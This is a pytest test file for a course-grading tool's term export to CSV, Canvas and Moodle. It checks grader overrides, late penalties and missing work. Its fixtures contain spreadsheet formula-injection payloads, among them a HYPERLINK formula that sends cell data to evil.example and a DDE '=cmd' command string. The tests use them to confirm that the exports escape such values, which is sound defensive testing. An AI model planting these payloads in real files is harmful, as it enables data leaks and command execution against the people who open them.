"""``allyship term``: the term's grades across assignments, from the real gradebook.

A class of six is graded on two assignments with the real ``allyship grade``; a grader then
overrides a score through nbgrader's gradebook API (as formgrader does) and ``allyship term``
must show it without another grade run. Expected scores come from the per-assignment
``grades.csv`` the same run wrote (one scoring rule), never hard-coded.
"""

from __future__ import annotations

import csv
import warnings
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import allyship, copy_course
from nbgrader.api import Gradebook

from allyship.instructor.demo import (
    HOSTILE_TEXT,
    DemoStudent,
    demo_class,
    notebook_bytes,
    write_roster,
)
from allyship.instructor.identity import shown_id
from allyship.instructor.lms import TIMESTAMP_FORMAT
from allyship.nbgrader_support import load_course_config

INTRO, ACC, LISTEN = "introspection", "accountability", "listening"
DUE = datetime(2026, 11, 20, 17, 0, 0)
PER_HOUR = 0.25
FORMULA_FIRST = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
FORMULA_LAST = "@SUM(1+1)"
OFF_ROSTER = "=cmd|' /C calc'!A0"
TERM_FILES = ("term.csv", "canvas.csv", "moodle.csv")


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def hand_in(course: Path, assignment: str, student: DemoStudent, when: datetime) -> None:
    """A submission filed in ``submitted/`` as nbgrader's collect leaves it."""
    folder = course / "submitted" / student.roster.id / assignment
    folder.mkdir(parents=True)
    (folder / f"{assignment}.ipynb").write_bytes(notebook_bytes(course, assignment, student))
    (folder / "timestamp.txt").write_text(when.strftime(TIMESTAMP_FORMAT), encoding="utf-8")


def the_class(course: Path) -> dict[str, dict[str, DemoStudent]]:
    """assignment -> student id -> that student's answers; six students, two tricky rows."""
    picked = ("nguyen", "hostile", "s005", "s006", "s007", "s008")
    by_assignment = {}
    for assignment in (INTRO, ACC):
        students = {s.roster.id: s for s in demo_class(course, assignment, 9)}
        students = {sid: replace(students[sid], kind="complete") for sid in picked}
        students["hostile"] = replace(students["hostile"], kind="hostile")
        s007, s008 = students["s007"], students["s008"]
        students["s007"] = replace(s007, roster=replace(s007.roster, lms_id=""))
        students["s008"] = replace(
            s008, roster=replace(s008.roster, first_name=FORMULA_FIRST, last_name=FORMULA_LAST)
        )
        by_assignment[assignment] = students
    by_assignment[ACC]["s007"] = replace(by_assignment[ACC]["s007"], kind="broken")
    return by_assignment


@pytest.fixture(scope="module")
def term_class(tmp_path_factory: pytest.TempPathFactory) -> SimpleNamespace:
    """Two assignments graded, one override, an off-roster student; then ``allyship term``."""
    course = copy_course(tmp_path_factory.mktemp("term") / "course")
    with (course / "nbgrader_config.py").open("a", encoding="utf-8") as fh:
        fh.write(
            f"\nc.CourseSchedule.due_dates = {{{INTRO!r}: '{DUE:%Y-%m-%d %H:%M:%S} UTC'}}\n"
            'c.AssignLatePenalties.plugin_class = "allyship.instructor.late.SubtractPerHour"\n'
            f"c.SubtractPerHour.points_per_hour = {{{INTRO!r}: {PER_HOUR}}}\n"
        )
    students = the_class(course)
    write_roster(course / "roster.csv", list(students[INTRO].values()))
    imported = allyship(course, "roster", "import", str(course / "roster.csv"))
    assert imported.returncode == 0, imported.stderr
    for sid, student in students[INTRO].items():  # s005 three hours late
        hand_in(course, INTRO, student, DUE + timedelta(hours=3 if sid == "s005" else -2))
    for sid, student in students[ACC].items():
        if sid != "s006":  # s006 never hands accountability in; s007's file is broken
            hand_in(course, ACC, student, DUE)
    graded = {a: allyship(course, "grade", a) for a in (INTRO, ACC)}
    assert graded[INTRO].returncode == 0, graded[INTRO].stderr[-3000:]
    assert graded[ACC].returncode == 1, graded[ACC].stderr[-3000:]  # the broken file
    sheets = {
        a: {r["student_id"]: r for r in read_csv(course / "reports" / a / "grades.csv")}
        for a in (INTRO, ACC)
    }
    first = next(k for k in sheets[ACC]["nguyen"] if k.endswith(" words"))[: -len(" words")]
    db_url = load_course_config(course).CourseDirectory.db_url
    with Gradebook(db_url, "allyship") as gb:  # what formgrader does with a grader's entry
        grade = gb.find_grade(first, ACC, ACC, "nguyen")
        grade.manual_score = 0.5
        grade.needs_manual_grade = False
        gb.db.commit()
        gb.add_student(OFF_ROSTER)
        gb.update_or_create_assignment("retired")
        with warnings.catch_warnings():  # nbgrader's own autoflush noise, as in grade
            warnings.filterwarnings("ignore", message=".*not in session.*")
            gb.add_submission("retired", "nguyen")
        review = sum(
            bool(s.needs_manual_grade)
            for a in (INTRO, ACC)
            for s in gb.assignment_submissions(a)
            if (course / "autograded" / s.student.id / a).is_dir()
        )
    result = allyship(course, "term")
    out = course / "reports" / "term"
    return SimpleNamespace(
        course=course,
        students=students,
        sheets=sheets,
        first=first,
        review=review,
        result=result,
        out=out,
        term={r["student_id"]: r for r in read_csv(out / "term.csv")} if out.is_dir() else {},
    )


def expected_total(term_class: SimpleNamespace, assignment: str, sid: str) -> float | None:
    """The per-assignment export's total, with the grader's override for nguyen."""
    row = term_class.sheets[assignment][sid]
    if row["total"] == "":
        return None
    total = float(row["total"])
    if (assignment, sid) == (ACC, "nguyen"):  # graded after that grade run
        total += 0.5 - float(row[term_class.first])
    return total


def column(term_class: SimpleNamespace, assignment: str) -> str:
    return next(k for k in next(iter(term_class.term.values())) if k.startswith(assignment))


@pytest.mark.slow
def test_summary_names_the_files_the_size_and_what_is_missing(
    term_class: SimpleNamespace,
) -> None:
    result = term_class.result
    assert result.returncode == 0, result.stderr
    lines = result.stdout.strip().splitlines()
    assert lines[0] == f"term grades in {term_class.out}: term.csv, canvas.csv, moodle.csv"
    assert lines[1] == (
        "7 students × 3 assignments; graded so far: introspection, accountability; "
        "not graded yet: listening"
    )
    assert lines[2] == (
        f"missing 1, handed in but not graded 1, needs a grader's score {term_class.review}"
    )
    assert lines[3] == "not in canvas.csv and moodle.csv (no LMS id, or not on the roster): 2"
    assert "assignment 'retired' is in the gradebook (1 submissions) but has no folder" in (
        result.stderr
    )
    assert f"note: student {shown_id(OFF_ROSTER)} in the gradebook: the id" in result.stderr
    for name in TERM_FILES:
        assert (term_class.out / name).is_file()


@pytest.mark.slow
def test_term_csv_has_each_assignments_score_the_override_and_the_late_penalty(
    term_class: SimpleNamespace,
) -> None:
    term, sheets = term_class.term, term_class.sheets
    assert list(term)[:6] == list(sheets[INTRO])  # roster order, as the grade sheets
    max_intro, max_acc = (float(sheets[a]["nguyen"]["max_score"]) for a in (INTRO, ACC))
    assert column(term_class, INTRO) == f"{INTRO} (out of {max_intro:g})"
    possible = max_intro + max_acc
    for sid in term_class.students[INTRO]:
        row = term[sid]
        scores = [expected_total(term_class, a, sid) for a in (INTRO, ACC)]
        for assignment, want in zip((INTRO, ACC), scores, strict=True):
            got = row[column(term_class, assignment)]
            assert (got == "") if want is None else float(got) == pytest.approx(want), (sid, got)
        total = sum(s or 0 for s in scores)
        assert float(row["total"]) == pytest.approx(total), sid
        assert float(row["total_possible"]) == possible
        assert float(row["percent"]) == pytest.approx(100 * total / possible, abs=0.05)
        assert row[column(term_class, LISTEN)] == ""
    assert float(sheets[INTRO]["s005"]["late_penalty"]) > 0  # the policy applied, and kept
    before = float(sheets[ACC]["nguyen"][term_class.first])
    assert before != 0.5  # so the term's score is the override's, not the autograder's
    assert float(term["nguyen"][column(term_class, ACC)]) != float(sheets[ACC]["nguyen"]["total"])


@pytest.mark.slow
def test_blanks_say_missing_or_not_graded_and_tricky_rows_are_safe(
    term_class: SimpleNamespace,
) -> None:
    term = term_class.term
    assert term["s006"][column(term_class, ACC)] == ""
    assert term["s006"]["missing"] == ACC  # listening is not graded yet: not "missing"
    assert term["s007"][column(term_class, ACC)] == ""
    assert (term["s007"]["missing"], term["s007"]["not_graded"]) == ("", ACC)
    assert "no LMS id" in term["s007"]["notes"]
    assert term["nguyen"]["missing"] == term["nguyen"]["not_graded"] == ""
    assert (term["s008"]["first_name"], term["s008"]["last_name"]) == (
        "'" + FORMULA_FIRST,
        "'" + FORMULA_LAST,
    )
    off = term[shown_id(OFF_ROSTER)]
    assert "not on the roster" in off["notes"]
    assert off["missing"] == "" and off["total"] == "0"  # never expected to hand anything in
    assert (term["hostile"]["first_name"], term["hostile"]["last_name"]) == (
        term_class.students[INTRO]["hostile"].roster.first_name,
        "Tester",
    )


@pytest.mark.slow
def test_canvas_and_moodle_files_carry_lms_ids_and_the_term_scores(
    term_class: SimpleNamespace,
) -> None:
    rows = read_rows(term_class.out / "canvas.csv")
    header, points = rows[0], rows[1]
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", INTRO, ACC, LISTEN]
    max_intro = float(term_class.sheets[INTRO]["nguyen"]["max_score"])
    assert points[0] == "Points Possible" and float(points[5]) == max_intro
    roster = {s.roster.lms_id: s.roster for s in term_class.students[INTRO].values()}
    canvas = {r[1]: dict(zip(header, r, strict=True)) for r in rows[2:]}
    assert set(canvas) == set(roster) - {""}  # s007 has no LMS id; the off-roster id has none
    term = term_class.term
    for lms_id, row in canvas.items():
        student = roster[lms_id]
        assert row[INTRO] == term[student.id][column(term_class, INTRO)]
        assert row[ACC] == term[student.id][column(term_class, ACC)]
        assert row[LISTEN] == ""
    assert canvas[roster["1000"].lms_id]["Student"] == "Nguyễn, Trần, Thị Ánh"
    s008 = next(r for r in roster.values() if r.id == "s008")
    assert canvas[s008.lms_id]["Student"] == f"'{FORMULA_LAST}, {FORMULA_FIRST}"
    moodle = {r["ID number"]: r for r in read_csv(term_class.out / "moodle.csv")}
    assert set(moodle) == set(canvas)
    for lms_id, row in moodle.items():
        assert row["Email address"] == roster[lms_id].email
        assert [row[a] for a in (INTRO, ACC, LISTEN)] == [
            canvas[lms_id][a] for a in (INTRO, ACC, LISTEN)
        ]
    assert moodle[s008.lms_id]["Full name"].startswith("'=HYPERLINK")


@pytest.mark.slow
def test_no_reflection_text_in_any_term_file(term_class: SimpleNamespace) -> None:
    phrases = ["window.__pwned", HOSTILE_TEXT[:30]]
    for students in term_class.students.values():
        for student in students.values():
            for text in student.texts.values():
                phrases.append(text.split(". ")[1][:40])  # past the shared opening sentence
    for name in TERM_FILES:
        text = (term_class.out / name).read_text(encoding="utf-8")
        for phrase in phrases:
            assert phrase not in text, (name, phrase)


def test_without_a_gradebook_it_says_to_grade_first_and_writes_nothing(course: Path) -> None:
    result = allyship(course, "term")
    assert result.returncode == 2
    assert result.stderr.strip() == (
        f"allyship term: {course / 'gradebook.db'}: no gradebook yet; import the roster "
        "(allyship roster import FILE) and run `allyship grade ASSIGNMENT` first"
    )
    assert not (course / "gradebook.db").exists() and not (course / "reports").exists()


def test_a_damaged_gradebook_is_named(course: Path) -> None:
    (course / "gradebook.db").write_bytes(b"this is not a database, only some text\n" * 200)
    result = allyship(course, "term")
    assert result.returncode == 2
    assert result.stderr.startswith(
        f"allyship term: {course / 'gradebook.db'}: cannot be read as an nbgrader gradebook"
    ), result.stderr
    assert not (course / "reports").exists()


def test_a_gradebook_without_students_says_to_import_the_roster(course: Path) -> None:
    db_url = load_course_config(course).CourseDirectory.db_url
    Gradebook(db_url, "allyship").close()  # what opening it once, before any import, leaves
    result = allyship(course, "term")
    assert result.returncode == 2
    assert result.stderr.strip() == (
        f"allyship term: {course / 'gradebook.db'}: no students in the gradebook; import the "
        "roster (allyship roster import FILE) and run `allyship grade ASSIGNMENT` first"
    )
